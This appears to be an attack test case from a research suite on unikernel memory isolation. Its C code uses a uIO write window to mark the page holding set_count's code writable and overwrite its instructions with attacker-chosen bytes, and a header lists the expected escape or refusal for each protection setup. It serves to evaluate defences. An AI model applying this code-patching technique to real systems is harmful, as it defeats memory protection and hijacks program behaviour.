/*
{
  "title": "The page of the application's code made writable in a write window, and the store of set_count replaced by one of a number of the attacker's",
  "precondition": "a write window, as uIO exports it",
  "reference": "Sung et al., Intra-Unikernel Isolation with Intel Memory Protection Keys, VEE 2020; Unikraft issue 414 (the code segment is writable)",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I5", "event": "guardedAccess"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "refused"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "processor.h"

static void patch(void) {
  volatile uint8_t *const code = (volatile uint8_t *)set_count;
  volatile uint64_t *const entry = leaf(code);
  // mov $666000, %edi; then the store, where the five bytes for whoever traces were.
  static const uint8_t bytes[] = {0xbf, 0x90, 0x29, 0x0a, 0x00};
  ushell_enable_write();
  *entry |= WRITABLE;
  invalidate(code);
  for (unsigned at = 0; at < sizeof bytes; at++) code[at] = bytes[at];
  ushell_disable_write();
}

int main(void) {
  ANNOUNCE_BYPASS();
  if (attack_has_keys()) BYPASS_SILENT(patch(); return 0);
  GOAL_COUNT();
  return 0;
}
